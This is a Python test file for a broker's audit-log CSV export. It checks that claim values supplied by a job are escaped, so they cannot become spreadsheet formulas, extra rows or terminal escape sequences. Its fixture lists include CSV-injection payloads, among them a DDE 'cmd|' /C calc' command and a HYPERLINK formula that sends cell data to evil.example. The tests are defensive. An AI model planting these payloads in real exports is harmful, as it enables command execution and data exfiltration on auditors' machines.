"""Row 173: what a job puts into its claims is no formula in the spreadsheet of an auditor."""

import csv
import io
import re
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from broker.cli.app import app
from broker.core.audit_csv import HEADER, header, row
from tests.audited_broker import AuditedStore
from tests.running_broker import RunningBroker

STARTS = "=+-@\t\r\n|%'\uff1d\uff0b\uff0d\uff20"
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "  =1+1",
    "\r=1",
    "\uff1d1+1",
    "\u00a0=1+1",
    "\u3000\uff1d1+1",
    '"=1+1"',
    '" "=1+1',
    "\ufeff=1+1",
    "\u200b=1+1",
]


def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def is_harmless(cell: str) -> bool:
    return not re.sub(r'^[\s"]+', "", cell).startswith(tuple(STARTS.replace("'", "")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_a_text(formula: str) -> None:
    [shown] = cells(header() + row({"seq": 1, "subject": formula}))

    assert shown["subject"].startswith(("'", "\\"))
    assert is_harmless(shown["subject"])


@given(st.text(max_size=30), st.text(max_size=30))
def test_no_text_makes_a_formula_or_another_row(subject: str, target: str) -> None:
    members: dict[str, Any] = {"seq": 1, "subject": subject, "target": target, "count": -1}
    text = header() + row(members)

    [shown] = cells(text)
    assert text.count("\r\n") == 2
    assert tuple(shown) == HEADER
    assert is_harmless(shown["subject"])
    assert is_harmless(shown["target"])
    assert shown["count"] == "-1"


@given(st.text(st.characters(), max_size=30))
def test_no_text_is_an_order_to_a_terminal_or_half_a_character(subject: str) -> None:
    text = row({"seq": 1, "subject": subject})

    text.encode()
    line = re.sub(r"\s", " ", text.removesuffix("\r\n"))
    assert not [each for each in line if unicodedata.category(each) in {"Cc", "Cf", "Cs"}]


@pytest.mark.parametrize("hostile", ["\x1b[2J", "\u202emain", "\ud800", "\x9b2K", "\u2028=1"])
def test_what_is_unseen_is_written_out(hostile: str) -> None:
    [shown] = cells(header() + row({"seq": 1, "subject": f"x{hostile}"}))

    assert shown["subject"].startswith("x\\")


@pytest.fixture
def store(tmp_path: Path) -> Iterator[AuditedStore]:
    with RunningBroker(tmp_path).serving() as broker:
        for formula in FORMULAS[:5]:
            token = broker.github_token(ref="refs/heads/x", sub=formula, workflow=formula)
            broker.exchange(token)
        yield AuditedStore(broker)


def test_what_a_job_chooses_is_exported_as_a_text(store: AuditedStore) -> None:
    exported = store.audit("export", "--format", "csv")

    assert (exported.exit_code, exported.stderr) == (0, "")
    rows = cells(exported.stdout_bytes.decode())
    assert [row["seq"] for row in rows] == [str(each["seq"]) for each in store.broker.events()]
    assert all(is_harmless(cell) for row in rows for cell in row.values())


@pytest.mark.parametrize("form", ["csv", "jsonl"])
def test_a_name_of_another_script_does_not_end_an_export(store: AuditedStore, form: str) -> None:
    store.broker.exchange(store.broker.github_token(ref="refs/heads/brücke"))
    store.broker.events()
    words = ["audit", "export", "--format", form]

    done = CliRunner(charset="ascii").invoke(app, words, env=store.environment())
    assert (done.exit_code, done.stderr) == (0, "")
    assert len(done.stdout_bytes.splitlines()) == len(store.broker.events()) + (form == "csv")
